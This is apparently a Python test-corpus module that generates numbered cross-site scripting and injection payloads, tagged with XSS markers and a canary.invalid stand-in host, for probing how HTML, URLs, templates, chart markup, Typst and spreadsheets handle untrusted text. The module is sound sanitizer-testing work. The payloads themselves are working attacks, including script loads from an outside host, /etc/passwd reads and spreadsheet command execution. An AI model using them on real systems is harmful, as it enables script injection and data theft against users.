"""A hundred and twenty ways to make a page do what its text says.

Each carries `XSS_nnn` where code would run: a dialog, a global of that name, or a
request to `canary.invalid` betrays it. Written for where text ends up: between
tags, in attributes, in addresses, in style, in scripts and JSON, in charts whose labels
know some markup, in templates, in paper and in spreadsheets.
"""

from collections.abc import Iterator

RUN = "window['XSS_{n}']=1;alert('XSS_{n}')"
BETWEEN_TAGS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script\n>{run}</script\n>",
    "<script src=//canary.invalid/{n}.js></script>",
    "<script type=module>{run}</script>",
    "<img src=x onerror={quick}>",
    "<img src=x onerror='{single}'>",
    "<img/src=x/onerror={quick}>",
    "<img src=//canary.invalid/{n}.png>",
    "<image src=x onerror={quick}>",
    "<svg onload={quick}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={quick} attributeName=x dur=1s>",
    "<svg><set onbegin={quick} attributename=x to=1>",
    "<svg><a href=javascript:{quick}><text y=20>{n}</text></a></svg>",
    "<svg><foreignObject><img src=x onerror={quick}></foreignObject></svg>",
    "<math><mtext><img src=x onerror={quick}></mtext></math>",
    "<math href=javascript:{quick}>{n}</math>",
    "<body onload={quick}>",
    "<body onpageshow={quick}>",
    "<iframe src=javascript:{quick}></iframe>",
    "<iframe srcdoc='<img src=x onerror={quick}>'></iframe>",
    "<iframe src=//canary.invalid/{n}></iframe>",
    "<object data=javascript:{quick}></object>",
    "<object data=//canary.invalid/{n}></object>",
    "<embed src=//canary.invalid/{n}>",
    "<video><source onerror={quick}></video>",
    "<video src=x onerror={quick}></video>",
    "<audio src=x onerror={quick}></audio>",
    "<details open ontoggle={quick}>{n}</details>",
    "<input autofocus onfocus={quick}>",
    "<select autofocus onfocus={quick}>",
    "<textarea autofocus onfocus={quick}>",
    "<button autofocus onfocus={quick}>{n}</button>",
    "<marquee onstart={quick}>{n}</marquee>",
    "<form action=javascript:{quick}><button autofocus>{n}</button></form>",
    "<form action=//canary.invalid/{n}><input name=q></form>",
    "<isindex action=javascript:{quick}>",
    "<a href=javascript:{quick}>{n}</a>",
    "<a href='jAvAsCrIpT:{quick}'>{n}</a>",
    "<a href=' javascript:{quick}'>{n}</a>",
    "<a href='java\tscript:{quick}'>{n}</a>",
    "<a href=data:text/html,<script>{quick}</script>>{n}</a>",
    "<a href=//canary.invalid/{n} ping=//canary.invalid/ping>{n}</a>",
    "<base href=//canary.invalid/{n}/>",
    "<link rel=stylesheet href=//canary.invalid/{n}.css>",
    "<link rel=prefetch href=//canary.invalid/{n}>",
    "<link rel=dns-prefetch href=//canary.invalid>",
    "<meta http-equiv=refresh content='0;url=javascript:{quick}'>",
    "<meta http-equiv=refresh content='0;url=//canary.invalid/{n}'>",
    "<style>@import '//canary.invalid/{n}.css';</style>",
    "<style>body{{background:url(//canary.invalid/{n}.png)}}</style>",
    "<div style=background:url(//canary.invalid/{n})>{n}</div>",
    "<table background=//canary.invalid/{n}><tr><td>{n}</table>",
    "<div onpointerrawupdate={quick} onmouseover={quick}>{n}</div>",
    "<x onclick={quick} tabindex=1 id=x autofocus onfocus={quick}>{n}</x>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={quick}>'>",
    "<!--><img src=x onerror={quick}>-->",
    "<![CDATA[><img src=x onerror={quick}>]]>",
    "<?xml ?><img src=x onerror={quick}>",
    "<<img src=x onerror={quick}//<",
    "<img src=`x` onerror={quick}>",
    "<img src=x:x onerror={quick} //",
    "<custom-element onfocus={quick} autofocus tabindex=0>",
)
OUT_OF_SOMETHING = (
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    '" autofocus onfocus="{single}" x="',
    "' autofocus onfocus='{quick}' x='",
    '" onmouseover={quick} style="position:fixed;inset:0" x="',
    "` onerror={quick} `",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "</script><script>{run}</script>",
    "</pre><script>{run}</script>",
    "</select><script>{run}</script>",
    "</noscript><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    '"}}</script><script>{run}</script>',
    "';{run};//",
    '";{run};//',
    "\\';{run};//",
    "</script\u2028><img src=x onerror={quick}>",
    "\u2028{run}\u2028",
    "${{{run}}}",
    "'-alert('XSS_{n}')-'",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\ufe64img src=x onerror={quick}\ufe65",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
)
ADDRESSES = (
    "javascript:{quick}",
    "java\nscript:{quick}",
    "data:text/html,<script>{quick}</script>",
    "//canary.invalid/{n}",
    "https://canary.invalid/{n}",
    "[{n}](javascript:{quick})",
    "![{n}](//canary.invalid/{n}.png)",
    "<https://canary.invalid/{n}>",
)
TEMPLATES = (
    "{{{{ 7*7 }}}}{{% include '/etc/passwd' %}} XSS_{n}",
    "{{{{constructor.constructor('{single}')()}}}}",
    "<div hx-get=//canary.invalid/{n} hx-trigger=load>{n}</div>",
    "<div hx-on::load='{quick}' data-hx-on::load='{quick}'>{n}</div>",
    "<div hx-vals='js:{{x:{quick}}}' hx-post=/theme/ hx-trigger=load>{n}</div>",
    "<div data-chart=x><script type=application/json id=x>{run}</script></div>",
)
CHARTS_AND_PAPER = (
    "<a href='javascript:{quick}'>XSS_{n}</a><br><b>x</b>",
    "$\\href{{javascript:{quick}}}{{XSS_{n}}}$",
    "<span style='font-size:9999px'>XSS_{n}</span>",
    '#read("/etc/passwd") #panic("XSS_{n}")',
    '#import "@preview/xss:1.0.0": * #link("//canary.invalid/{n}")',
    "*XSS_{n}* _x_ `x` $ x $ = Head <x> @x // /* #(1+1)",
)
SPREADSHEETS = (
    '=HYPERLINK("//canary.invalid/{n}","XSS_{n}")',
    "+cmd|' /C calc'!A{n}",
    "-2+3+cmd|' /C calc'!A{n}",
    "@SUM(1+1)*XSS_{n}",
    "\t=1+{n}",
)


def payloads() -> list[str]:
    """Return all of them; the number of each is in it."""
    kinds = (
        *BETWEEN_TAGS,
        *OUT_OF_SOMETHING,
        *ADDRESSES,
        *TEMPLATES,
        *CHARTS_AND_PAPER,
        *SPREADSHEETS,
    )
    return list(_numbered(kinds))


def _numbered(kinds: tuple[str, ...]) -> Iterator[str]:
    for at, kind in enumerate(kinds):
        n = f"{at:03}"
        yield kind.format(
            n=n,
            run=RUN.format(n=n),
            quick=f"XSS_{n}=alert(`XSS_{n}`)",
            single=f"XSS_{n}=alert(`XSS_{n}`)",
        )
